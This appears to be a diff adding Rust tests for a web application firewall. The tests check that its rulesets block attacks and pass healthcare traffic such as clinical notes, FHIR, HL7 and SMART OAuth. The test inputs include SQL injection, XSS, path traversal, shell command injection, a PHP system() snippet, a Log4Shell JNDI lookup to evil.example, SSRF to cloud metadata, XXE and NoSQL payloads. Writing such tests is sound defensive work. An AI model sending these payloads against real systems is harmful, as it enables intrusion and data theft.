@@ -1,0 +1,305 @@
+//! Behaviour of the embedded rulesets: each attack class is blocked by the rule we expect, and
+//! healthcare traffic that looks like keywords (clinical text, FHIR, HL7 v2, C-CDA, SMART) passes.
+#![allow(clippy::unwrap_used)]
+
+use palisade_engine::{embedded_rulesets, Engine, EngineConfig, RequestHead, UserRules, Verdict};
+
+fn engine() -> Engine {
+    Engine::compile(
+        embedded_rulesets(),
+        &UserRules::empty(),
+        &EngineConfig::default(),
+    )
+    .unwrap()
+}
+
+fn get(e: &Engine, target: &str) -> Verdict {
+    let h: [(&str, &[u8]); 2] = [
+        ("Host", b"app.example.org"),
+        ("User-Agent", b"Mozilla/5.0 (X11; Linux x86_64)"),
+    ];
+    let mut tx = e.transaction();
+    tx.inspect_head(&RequestHead {
+        method: "GET",
+        target: target.as_bytes(),
+        headers: &h,
+    });
+    tx.into_verdict()
+}
+
+fn with_header(e: &Engine, name: &str, value: &str) -> Verdict {
+    let h: [(&str, &[u8]); 2] = [("Host", b"app.example.org"), (name, value.as_bytes())];
+    let mut tx = e.transaction();
+    tx.inspect_head(&RequestHead {
+        method: "GET",
+        target: b"/",
+        headers: &h,
+    });
+    tx.into_verdict()
+}
+
+fn post(e: &Engine, target: &str, ct: &str, body: &str) -> Verdict {
+    let h: [(&str, &[u8]); 2] = [
+        ("Host", b"app.example.org"),
+        ("Content-Type", ct.as_bytes()),
+    ];
+    let mut tx = e.transaction();
+    tx.inspect_head(&RequestHead {
+        method: "POST",
+        target: target.as_bytes(),
+        headers: &h,
+    });
+    tx.inspect_body(Some(ct.as_bytes()), body.as_bytes());
+    tx.into_verdict()
+}
+
+fn fired(v: &Verdict, id: u32) -> bool {
+    v.hits.iter().any(|h| h.rule_id == id)
+}
+
+#[track_caller]
+fn assert_blocked_by(v: &Verdict, id: u32) {
+    assert!(v.blocked, "not blocked: {v:#?}");
+    assert!(fired(v, id), "rule {id} did not fire: {v:#?}");
+}
+
+#[track_caller]
+fn assert_passes(v: &Verdict) {
+    assert!(!v.blocked, "blocked: {v:#?}");
+}
+
+#[test]
+fn sqli() {
+    let e = engine();
+    assert_blocked_by(
+        &get(&e, "/?id=1%20UNION%20ALL%20SELECT%20NULL,version()--"),
+        240100,
+    );
+    assert_blocked_by(&get(&e, "/?id=1%27%20AND%20SLEEP(5)--"), 240110);
+    assert_blocked_by(&get(&e, "/?q=%27%20or%20%271%27=%271"), 240120);
+    assert_blocked_by(&get(&e, "/?id=1;%20DROP%20TABLE%20users"), 240150);
+    assert_blocked_by(
+        &get(&e, "/?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
+        240100,
+    );
+    assert_blocked_by(
+        &post(
+            &e,
+            "/api",
+            "application/json",
+            r#"{"q":"x' UNION SELECT * FROM information_schema.tables--"}"#,
+        ),
+        240160,
+    );
+}
+
+#[test]
+fn xss() {
+    let e = engine();
+    assert_blocked_by(&get(&e, "/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 230100);
+    assert_blocked_by(&get(&e, "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 230110);
+    assert_blocked_by(&get(&e, "/?u=javascript:alert(document.cookie)"), 230120);
+    assert_blocked_by(&get(&e, "/?u=java%26%23x09;script:alert(1)"), 230120);
+    assert_blocked_by(&get(&e, "/?q=%EF%BC%9Cscript%EF%BC%9E"), 230100);
+    assert_blocked_by(&get(&e, "/?q=%3Csvg/onload=confirm(1)%3E"), 230110);
+}
+
+#[test]
+fn traversal_and_files() {
+    let e = engine();
+    assert_blocked_by(&get(&e, "/?file=../../../../etc/passwd"), 130100);
+    assert_blocked_by(
+        &get(&e, "/?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
+        130100,
+    );
+    assert_blocked_by(
+        &get(&e, "/?file=%252e%252e%252f%252e%252e%252fboot.ini"),
+        130100,
+    );
+    assert_blocked_by(&get(&e, "/?p=..0x5c..0x5cwindows0x5csystem32"), 130160);
+    assert_blocked_by(&get(&e, "/.git/config"), 120100);
+    assert_blocked_by(&get(&e, "/backup/db.sql"), 120110);
+    assert_passes(&get(&e, "/.well-known/smart-configuration"));
+}
+
+#[test]
+fn rce_php_java() {
+    let e = engine();
+    assert_blocked_by(&get(&e, "/?host=127.0.0.1;cat%20/etc/passwd"), 150100);
+    assert_blocked_by(&get(&e, "/?x=$(whoami)"), 150110);
+    assert_blocked_by(
+        &with_header(&e, "User-Agent", "() { :;}; /bin/bash -c id"),
+        150120,
+    );
+    assert_blocked_by(&get(&e, "/?c=cmd.exe%20/c%20dir"), 150140);
+    assert_blocked_by(&get(&e, "/?c=powershell%20-nop%20-enc%20SQBFAFgA"), 150150);
+    assert_blocked_by(&get(&e, "/?x=%3C?php%20system($_GET[1]);%20?%3E"), 160100);
+    assert_blocked_by(
+        &get(
+            &e,
+            "/?f=php://filter/convert.base64-encode/resource=index.php",
+        ),
+        140110,
+    );
+    assert_blocked_by(
+        &with_header(&e, "X-Api-Version", "${jndi:ldap://evil.example/a}"),
+        170100,
+    );
+    assert_blocked_by(&get(&e, "/?x=$%7B$%7Blower:j%7Dndi:ldap://x/a%7D"), 170100);
+    assert_blocked_by(&with_header(&e, "Cookie", "x=java.lang.Runtime"), 170120);
+}
+
+#[test]
+fn ssrf_xxe_ssti_nosql_crlf() {
+    let e = engine();
+    assert_blocked_by(
+        &get(&e, "/?url=http://169.254.169.254/latest/meta-data/"),
+        180100,
+    );
+    assert_blocked_by(&get(&e, "/?next=http://127.0.0.1:8080/admin"), 180110);
+    assert_blocked_by(&get(&e, "/?u=gopher://internal:25/_HELO"), 180120);
+    let xxe =
+        r#"<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><d>&f;</d>"#;
+    assert_blocked_by(&post(&e, "/api", "application/xml", xxe), 190100);
+    assert_blocked_by(&get(&e, "/?name=%7B%7B7*7%7D%7D"), 200100);
+    assert_blocked_by(&get(&e, "/?name=%7B%7B''.__class__.__mro__%7D%7D"), 200110);
+    assert_blocked_by(&get(&e, "/login?user[$ne]=x&pass[$ne]=y"), 210100);
+    assert_blocked_by(
+        &post(&e, "/login", "application/json", r#"{"user":{"$gt":""}}"#),
+        210100,
+    );
+    assert_blocked_by(&get(&e, "/?r=x%0d%0aSet-Cookie:%20a=b"), 220100);
+}
+
+#[test]
+fn scanners_and_protocol() {
+    let e = engine();
+    assert_blocked_by(
+        &with_header(&e, "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        110100,
+    );
+    let v = post(&e, "/", "text/plain; charset=utf-7", "+ADw-script+AD4-");
+    assert_blocked_by(&v, 100100);
+    let v = post(
+        &e,
+        "/up",
+        "multipart/form-data; boundary=a; boundary=b",
+        "--a\r\n",
+    );
+    assert_blocked_by(&v, 100340);
+    let v = post(&e, "/api", "application/json", r#"{"a": [1, 2"#);
+    assert!(
+        fired(&v, 100300) && !v.blocked,
+        "malformed JSON alone is a finding, not a block: {v:#?}"
+    );
+}
+
+#[test]
+fn clinical_text_keywords_pass() {
+    let e = engine();
+    for note in [
+        "Patient asked to select a time to drop off the sample; union rep present.",
+        "Watch for signs of infection | follow up in 2 weeks ^ as needed",
+        "Eggs (edible) (substance) - allergy (finding)",
+        "Time period when name was/is in use (USCDI)",
+        "Call (555)-555-1234 -- after 5pm; drop by the clinic",
+        "BP 120/80, HR 72 & SpO2 98%; cat scan ordered; echo scheduled",
+        "If not resolved, repeat CBC. Sleep (8 hours) advised.",
+        "O'Brien said: 'I feel fine' or so he claims = stable",
+    ] {
+        let body = format!(
+            "note={}",
+            note.replace('%', "%25")
+                .replace('&', "%26")
+                .replace(';', "%3B")
+                .replace(' ', "+")
+        );
+        assert_passes(&post(
+            &e,
+            "/notes",
+            "application/x-www-form-urlencoded",
+            &body,
+        ));
+        let json = format!(
+            r#"{{"resourceType":"Observation","valueString":{}}}"#,
+            json_string(note)
+        );
+        assert_passes(&post(
+            &e,
+            "/fhir/Observation",
+            "application/fhir+json",
+            &json,
+        ));
+    }
+}
+
+fn json_string(s: &str) -> String {
+    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
+}
+
+#[test]
+fn fhir_narrative_is_not_xss_but_script_in_it_is() {
+    let e = engine();
+    let ok = r#"{"resourceType":"Patient","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><p style=\"color:red\">Jane <b>Doe</b></p><img src=\"http://hl7.org/fhir/x.png\" alt=\"x\"/><table><tr><td>1</td></tr></table></div>"}}"#;
+    assert_passes(&post(&e, "/fhir/Patient", "application/fhir+json", ok));
+    let bad = r#"{"resourceType":"Patient","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=x onerror=alert(1)></div>"}}"#;
+    assert_blocked_by(
+        &post(&e, "/fhir/Patient", "application/fhir+json", bad),
+        230110,
+    );
+    let sqli_in_markup = r#"{"html":"<div><p>x' UNION SELECT password FROM users--</p></div>"}"#;
+    assert_blocked_by(
+        &post(&e, "/notes", "application/json", sqli_in_markup),
+        240100,
+    );
+}
+
+#[test]
+fn hl7_delimiters_are_not_shell() {
+    let e = engine();
+    let msg = "MSH|^~\\&|LAB|FAC|EHR|FAC|202401011200||ORU^R01|123|P|2.5\rPID|1||12345^^^MRN||DOE^JOHN||19700101|M\rOBX|1|TX|11506-3^Progress note^LN||Pain score 7 & rising; echocardiogram ordered; id band checked|\r";
+    let v = post(&e, "/hl7", "x-application/hl7-v2+er7", msg);
+    assert_passes(&v);
+    assert!(!v.hits.iter().any(|h| h.category == "rce"), "{v:#?}");
+}
+
+#[test]
+fn smart_oauth_parameters_pass() {
+    let e = engine();
+    assert_passes(&get(
+        &e,
+        "/authorize?response_type=code&client_id=app&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&scope=launch%2Fpatient%20patient%2F*.rs%20openid%20fhirUser&state=abc&aud=https%3A%2F%2Ffhir.example.org%2Fr4",
+    ));
+    assert_passes(&get(
+        &e,
+        "/fhir/Observation?patient=123&code=http://loinc.org|8867-4&_sort=-date&date=ge2020-01-01",
+    ));
+}
+
+#[test]
+fn rule_ids_and_masked_snippets_for_audit() {
+    let e = engine();
+    let v = get(
+        &e,
+        "/?q=JohnSmith123%27%20UNION%20SELECT%20ssn%20FROM%20patients--",
+    );
+    let h = v.hits.iter().find(|h| h.rule_id == 240100).unwrap();
+    assert_eq!(h.category, "sqli");
+    assert_eq!(h.target, "args:q");
+    assert!(h.snippet.chars().count() <= 32);
+    assert!(!h.snippet.contains("John"), "{}", h.snippet);
+    assert!(h.transforms.contains(&"url_decode"));
+}
+
+#[test]
+fn paranoia_four_compiles_more_rules() {
+    let p1 = engine().rule_count();
+    let cfg = EngineConfig {
+        paranoia: 4,
+        ..EngineConfig::default()
+    };
+    let p4 = Engine::compile(embedded_rulesets(), &UserRules::empty(), &cfg)
+        .unwrap()
+        .rule_count();
+    assert!(p4 > p1);
+}
